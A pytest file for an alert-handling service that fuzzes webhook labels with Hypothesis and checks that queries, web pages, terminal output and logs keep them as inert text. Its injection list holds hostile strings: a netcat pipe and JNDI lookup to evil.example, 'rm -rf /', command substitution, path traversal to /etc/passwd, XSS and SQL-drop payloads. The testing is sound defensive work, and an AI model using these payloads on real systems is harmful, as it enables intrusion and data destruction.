"""Labels come from whoever can write a metric: whatever stands in them, it stays text.

10,000 hostile labels and annotations, made of what breaks out of PromQL, HTML, shells, paths, SQL, templates,
terminals and logs, go in through the webhook and through every step, beside services that are configured and
fail. Who is called is watched where Python opens connections, files and processes, not in our own log.
Hypothesis draws them, an alert with 40 of them at a time, into the life of one fabric: ten thousand lives
would take hours.
"""

from __future__ import annotations

import io
import json
import re
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

import pytest
import structlog
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from prometheus_client.parser import text_string_to_metric_families
from rich.console import Console

from self_healing_fabric import screens
from self_healing_fabric.app import create_app
from self_healing_fabric.incidents.audit import verify
from self_healing_fabric.telemetry import configure_logging
from shf_queries import catalogue

LABELS, IN_EACH = 10_000, 40  # hostile values, and how many of them one alert carries
MARK = "h0stile"  # stands in each of them
SERVICES = {"cart": ["db"], "db": []}
BREAKERS = [
    '"} or vector(1) #', "\\", "\\\"}", "'", '"', "`", "\n", "\r\n", "\x00", "\x1b[2J\x1b]0;x\x07", "\u202e",
    "\u2028", "{{ 7*7 }}", "{% include '/etc/passwd' %}", "${jndi:ldap://evil.example/x}", "$(touch /tmp/x)",
    "; rm -rf /", "| nc evil.example 1", "../../etc/passwd", "%2e%2e%2f", "file:///etc/passwd",
    "//evil.example/",
    "http://evil.example/restart", "http://127.0.0.1:1/", "javascript:alert(1)", "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "'\"><svg/onload=alert(1)>", "]]>", "<!--", "'; DROP TABLE incidents; --",
    "%s%n%(x)s", "[red]x[/red]", "[link=http://evil.example]x[/link]", "docker:db", "cart", "*", ".*",
    ".+|db",
    "\ufeff", "\U0001f525", "a" * 300, "-o ProxyCommand=x", "__import__('os').system('x')", "null", "NaN",
]  # fmt: skip
NAMES = ["summary", "runbook_url", "verify_query", "target", "host", "url", "command", "container", "pod",
         "job", "instance", "namespace", "cluster", "value", "threshold", "__name__",
         "severity", "signal"]  # fmt: skip


BEYOND = ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.remove", "os.rename")


# What breaks out, or whatever text Hypothesis thinks of, before and behind the mark.
PARTS = st.sampled_from(BREAKERS) | st.text(max_size=6)
VALUES = st.tuples(PARTS, PARTS).map(lambda parts: MARK.join(parts))
NEARLY = st.sampled_from(["cart\n", " cart", "cart\u200b", "CART", "cart.*"]) | VALUES
OWN = [{"service": name, "severity": "critical", "signal": "heartbeat"} for name in SERVICES]


@st.composite
def alerts(draw: st.DrawFn) -> dict[str, Any]:
    """Of a configured service, of nearly that service, or of none; all else in it is hostile."""
    hostile = iter(draw(st.lists(VALUES, min_size=IN_EACH, max_size=IN_EACH)))
    labels = {name: next(hostile) for name in NAMES[:10]}
    labels |= {next(hostile): next(hostile) for _ in range(8)}
    labels |= draw(st.sampled_from(OWN) | NEARLY.map(lambda service: {"service": service}))
    labels["alertname"] = next(hostile)
    annotations = {name: next(hostile) for name in NAMES[-13:]}
    return {
        "status": "firing",
        "labels": labels,
        "annotations": annotations,
        "startsAt": "2027-01-15T08:00:00Z",
    }


class Watch:
    """Every connection, process and file for writing that Python opens while it is on."""

    def __init__(self) -> None:
        self.on = False
        self.connected: set[tuple[str, int]] = set()
        self.others: list[tuple[str, str]] = []
        sys.addaudithook(self._see)

    def _see(self, event: str, arguments: tuple[Any, ...]) -> None:
        if not self.on:
            return
        what = str(arguments[0]) if arguments else ""
        writes = event == "open" and isinstance(arguments[1], str) and set(arguments[1]) & set("wax+")
        if event == "socket.connect":
            address = arguments[1]
            self.connected.add(tuple(address[:2]) if isinstance(address, tuple) else (str(address), 0))
        elif event == "socket.getaddrinfo":
            self.connected.add((what, int(arguments[1] or 0)))
        elif writes or event in BEYOND or (event == "compile" and MARK in what):
            self.others.append((event, what))


@pytest.fixture(scope="module")
def watch() -> Watch:
    """One for all: an audit hook cannot be taken away."""
    return Watch()


@contextmanager
def watching(watch: Watch) -> Iterator[None]:
    """Watch meanwhile."""
    watch.on = True
    try:
        yield
    finally:
        watch.on = False


class Page(HTMLParser):
    """The elements and attributes of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def test_ten_thousand_hostile_labels_stay_text(make_world: Callable[..., Any], watch: Watch) -> None:
    """No call but to configured hosts, no effect but on configured targets, nothing that breaks out."""
    world = make_world(SERVICES, external_url="https://shf.example.com")
    world.fabric.context = world.context
    client = create_app(world.fabric).test_client()
    for service in SERVICES:
        world.silent(service)
    number = 0

    # Shrinking would go on in a world that has changed; what is found is one alert and small enough.
    @settings(
        max_examples=LABELS // IN_EACH,
        deadline=None,
        phases=(Phase.explicit, Phase.generate),
        suppress_health_check=list(HealthCheck),
    )
    @given(alerts())
    def lives_through(alert: dict[str, Any]) -> None:
        nonlocal number
        number += 1
        message = {"version": "4", "alerts": [{**alert, "fingerprint": f"f{number}"}]}
        with watching(watch):
            assert client.post("/api/v1/alerts", json=message).status_code == 202
            world.run(0.05)

    lives_through()
    assert number * IN_EACH >= LABELS
    with watching(watch):
        world.run(30)
    host, port = urlsplit(world.target.restart_url).hostname, urlsplit(world.target.restart_url).port
    assert watch.connected <= {(host, port), ("127.0.0.1", port), ("::1", port)}
    assert [each for each in watch.others if "shf.db" not in each[1]] == []
    assert set(world.restarts()) <= set(SERVICES)
    assert world.restarts(), "the configured service was healed meanwhile"
    _nothing_in_queries(world)
    _nothing_in_pages(world, client)
    _nothing_in_terminals(world, client)
    assert world.context.store.read(verify).findings == ()
    metrics = client.get("/metrics").text
    assert len(list(text_string_to_metric_families(metrics))) > 20


def _nothing_in_queries(world: Any) -> None:
    assert len(world.prometheus.queries) > 10
    assert not [query for query in world.prometheus.queries if MARK in query]
    named = {
        json.loads(name)
        for query in world.prometheus.queries
        for name in re.findall(r'service=("[^"]*")', query)
    }
    assert named <= {*SERVICES, ""}, "targets without the label have the name of their job"


def _nothing_in_pages(world: Any, client: Any) -> None:
    incidents = world.incidents()
    assert len(incidents) > 50
    strangers = [each for each in incidents if not each.known_service][:20]
    paths = ["/", *(f"/incidents/{each.id}" for each in (*strangers, *incidents[:5]))]
    shown = 0
    for path in paths:
        answer = client.get(path)
        assert answer.status_code == 200
        shown += answer.text.count(MARK)
        page = Page(answer.text)
        assert not page.tags & {"iframe", "object", "embed", "base", "svg"}
        assert all(value.startswith("/") for name, value in page.attributes if name == "src"), path
        assert not [name for name, _ in page.attributes if name.startswith("on") or MARK in name]
        links = [value for name, value in page.attributes if name in ("href", "src", "action", "formaction")]
        assert not [each for each in links if urlsplit(each).scheme not in ("", "http", "https")]
        assert "<script>alert" not in answer.text
        assert "script-src" in answer.headers["Content-Security-Policy"]
    assert shown > 20, "the labels are there to be seen"


def _nothing_in_terminals(world: Any, client: Any) -> None:
    for incident in [each for each in world.incidents() if not each.known_service][:20]:
        written = io.StringIO()
        story = client.get(f"/api/v1/incidents/{incident.id}").get_json()
        screens.show_incident(Console(file=written, highlight=False, width=200, force_terminal=False), story)
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", written.getvalue())


@pytest.mark.parametrize("log_format", ["json", "text"])
def test_an_event_stays_one_line_of_the_log(monkeypatch: pytest.MonkeyPatch, log_format: str) -> None:
    """Whatever an event tells, it is one line that no terminal obeys; a program reads back what was told."""
    written = io.StringIO()
    monkeypatch.setattr(sys, "stderr", written)
    configure_logging(json=log_format == "json")
    log = structlog.get_logger()

    @settings(max_examples=300, deadline=None)
    @given(VALUES)
    def is_one_line(value: str) -> None:
        written.seek(0)
        written.truncate()
        log.warning("told", title=value, data={value: [value]})
        (line,) = written.getvalue().split("\n")[:-1]
        assert line.isprintable(), repr(line)
        if log_format == "json":
            assert json.loads(line)["title"] == value

    is_one_line()


@settings(max_examples=1_000, deadline=None)
@given(VALUES)
def test_a_label_in_a_query_is_one_string(value: str) -> None:
    """Where a name is put into PromQL, whatever it holds, it is read back as it was: nothing breaks out."""
    quoted = catalogue.quote(value)
    assert "\n" not in quoted
    assert re.fullmatch(r'"(?:[^"\\\n]|\\["\\n])*"', quoted), quoted
    read = re.sub(r'\\(["\\n])', lambda found: {"n": "\n"}.get(found[1], found[1]), quoted[1:-1])
    assert read == value
